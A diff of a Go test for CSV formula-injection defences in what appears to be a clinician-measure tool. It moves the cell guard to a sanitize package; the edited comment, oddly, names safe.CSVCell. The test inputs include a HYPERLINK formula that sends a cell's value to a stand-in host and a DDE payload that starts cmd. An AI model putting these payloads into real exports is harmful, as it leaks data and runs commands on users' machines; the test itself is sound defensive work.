@@ -7,13 +7,13 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/mipspi/mipspi/internal/sanitize"
 	"github.com/mipspi/mipspi/measure"
-	"github.com/mipspi/mipspi/reports"
 )
 
 // TestCSVDefusesFormulas (issue 13, row 7): a TIN, NPI or clinician name that a
 // spreadsheet would run as a formula is written as text, by the same guard as the
-// report CSV (reports.CSVCell).
+// report CSV (safe.CSVCell).
 func TestCSVDefusesFormulas(t *testing.T) {
 	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"}
 	for _, h := range hostile {
@@ -33,8 +33,8 @@ func TestCSVDefusesFormulas(t *testing.T) {
 		if diff := cmp.Diff(want, rows[1]); diff != "" {
 			t.Errorf("%q (-want +got):\n%s", h, diff)
 		}
-		if got := reports.CSVCell(h); got != "'"+h {
-			t.Errorf("reports.CSVCell(%q) = %q", h, got)
+		if got := sanitize.CSVCell(h); got != "'"+h {
+			t.Errorf("sanitize.CSVCell(%q) = %q", h, got)
 		}
 	}
 }
